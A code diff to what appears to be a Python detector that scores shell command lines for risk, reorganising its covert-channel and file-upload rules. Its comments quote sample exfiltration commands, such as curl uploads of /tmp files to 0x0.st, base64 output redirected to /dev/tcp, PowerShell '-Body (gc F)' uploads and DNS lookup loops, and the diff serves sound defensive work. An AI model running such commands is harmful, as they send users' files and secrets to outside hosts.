@@ -189,9 +189,10 @@ def _assess(text: str, depth: int) -> Optional[tuple]:
         best = higher(best, secret_destinations.rule_secret_file_sent(segs))  # `carbon-now KEY -o /tmp && curl …/tmp…`
     best = higher(best, socket_fds.rule_socket_fds(segs))
     best = higher(best, ps_uploads.rule_ps_upload(segs))
-    best = higher(best, covert_channels.line_covert_calls(text))  # a file read into PowerShell's Ping or TcpClient
-    best = higher(best, covert_channels.line_encoded_lookups(text, segs))  # `foreach (…) { Resolve-DnsName $n }`
-    best = higher(best, drop_lines.line_drops(text, segs))  # `U=https://0x0.st; curl -T /tmp/f $U`, `-Body (gc F)`
+    if "$" in text or "et." in text or "ET." in text or "/dev/" in text:  # `$p.Send(…)`, `> /dev/tcp/h/p`
+        best = higher(best, covert_channels.line_covert(text, segs))
+    if "." in text:  # `U=https://0x0.st; curl -T /tmp/f $U`, `-Body (gc F)`
+        best = higher(best, drop_lines.line_drops(text, segs))
     best = higher(best, system_parts.rule_cmd_for(segs, recurse))
     best = higher(best, fleets.rule_fanned_out_line(text, recurse))
     best = higher(best, bulk_offline.line_every_guest_stopped(text))
@@ -200,7 +201,8 @@ def _assess(text: str, depth: int) -> Optional[tuple]:
         segs = ps_targets.joined_groups(segs)  # (the line's rules above read the groups as the shell splits them)
     budget = _BUDGET.get()
     chain: list = []
-    own = drop_lines.made_own(text, segs)  # `freeze main.go -o /tmp/c.png && curl -F f=@/tmp/c.png https://0x0.st`
+    # `freeze main.go -o /tmp/c.png && curl -F f=@/tmp/c.png https://0x0.st`: a file made here from the user's own
+    own = drop_lines.made_own(text, segs) if "." in text else None
     own_kept = public_drops.MADE_OWN.set(own) if own else None
     loop_files.bind(segs)  # `… done < <(find /var/www -name '*.php')`: `$f` in the body is each file found
     making = made_here.names_a_maker(text)  # `d=$(mktemp -d) && … && rm -rf "$d"`: `$d` is a path the line made
@@ -255,7 +257,6 @@ def _segment(seg: Segment, chain: list, depth: int) -> Optional[tuple]:
     """The finding of one command of a line: its own words, redirects and the commands feeding it."""
     best = shellstate.exec_redirect(seg)
     best = higher(best, exfil.rule_tcp_redirect(seg))
-    best = higher(best, covert_channels.rule_tcp_device(seg))  # `base64 f > /dev/tcp/h/p`
     best = higher(best, inout.rule_truncates_input(seg, chain))
     best = higher(best, documents.rule_emptied(seg))
     best = higher(best, meaning.rule_write_meaning(seg, chain, _recurse(depth)))
